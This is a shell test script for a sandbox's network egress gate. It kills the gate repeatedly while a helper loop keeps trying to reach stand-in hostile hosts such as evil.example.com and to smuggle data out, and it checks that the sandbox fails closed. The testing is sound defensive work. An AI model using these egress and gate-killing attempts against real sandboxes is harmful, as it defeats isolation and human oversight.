# SPDX-License-Identifier: Apache-2.0
# Trick: the gate dies, once with connections open and then again and again
# Gain: a moment, or an end, in which nobody holds anything back
# Control: none, there is no gate without a sandbox
box killed "${LOCKED[@]}" || { echo "broken: $(cat "$T/box")"; exit 3; }
log=$T/flows.$ROLE
rm -f "$log"
inside killed env FRESH=1 PYTHONDONTWRITEBYTECODE=1 python3 /hostile/flows.py 4 >"$log" 2>/dev/null &
flows=$!
eventually 10 grep -q open "$log" || { cat "$log"; echo "broken: they don't open"; exit 3; }
# what is tried all the time meanwhile
inside killed env FRESH=1 PYTHONDONTWRITEBYTECODE=1 timeout 20 python3 -c '
import sys; sys.path.insert(0, "/hostile")
from trick import *
while True:
    for addr in (EVIL, EVIL6, "10.0.0.5", HOST): talk(addr, 80, request("evil.example.com"), 0.02)
    ask(question("evil.example.com"), wait=0.02); ask(b"brig-smuggled", EVIL, 443, 0.001)' >/dev/null 2>&1 &
trying=$!
gate=$(role_of brig-gate killed)
[ -n "$gate" ] && kill -KILL "$gate" || { echo "broken: no gate to kill"; exit 3; }
wait "$flows"
! grep lives "$log" || escaped "a connection outlived the gate"
works() { inside killed env FRESH=1 PYTHONDONTWRITEBYTECODE=1 python3 -c '
import sys; sys.path.insert(0, "/hostile")
from trick import *
sys.exit(0 if alive(3) else 1)' >/dev/null 2>&1 </dev/null; }
works || { echo "broken: no gate is started again"; exit 3; }
verdict locked
for _ in {1..14}; do
	gate=$(role_of brig-gate killed)
	[ -z "$gate" ] || kill -KILL $gate 2>/dev/null
	sleep 0.15
done
sleep 0.3
! works || { echo "broken: it was not given up"; exit 3; }
kill "$trying"
unbox killed
stopped "it comes again, and when it can't there is no network"
